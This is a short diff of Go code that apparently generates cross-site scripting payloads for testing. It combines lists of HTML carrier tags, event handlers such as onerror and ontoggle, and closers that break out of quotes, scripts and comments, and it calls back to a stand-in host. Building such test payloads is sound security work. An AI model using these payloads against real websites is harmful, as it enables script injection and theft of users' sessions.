@@ -8,9 +8,11 @@ import (
 // Each payload would open a dialog or ask the host off.invalid, both with its own number N, wherever a place lets it.
 // Those that differ in one part only are made from lists; the rest is written out.
 var (
-	carriers = []string{"<img src=x %s>", "<svg %s>", "<details open %s>", "<input autofocus %s>", "<video src=x %s>", "<body %s>",
+	carriers = []string{"<img src=x %s>", "<svg %s>", "<details open %s>", "<input autofocus %s>", "<video src=x %s>",
+		"<body %s>",
 		"<iframe src=./ %s>", "<marquee %s>", "<a href=# tabindex=1 %s>x</a>", "<math %s>"}
-	events = []string{"onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onstart", "onloadstart"}
+	events = []string{"onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart",
+		"onpointerenter", "onstart", "onloadstart"}
 
 	closers = []string{`"`, `'`, "`", `">`, `'>`, `-->`, `]]>`, `</title>`, `</script>`, `</style>`, `</textarea>`, `</code></pre>`,
 		`</p></div></main>`, `</svg>`, `</summary></details>`, `</td></tr></table>`, `&quot;>`, `\">`, `%22%3E`, `}}`}
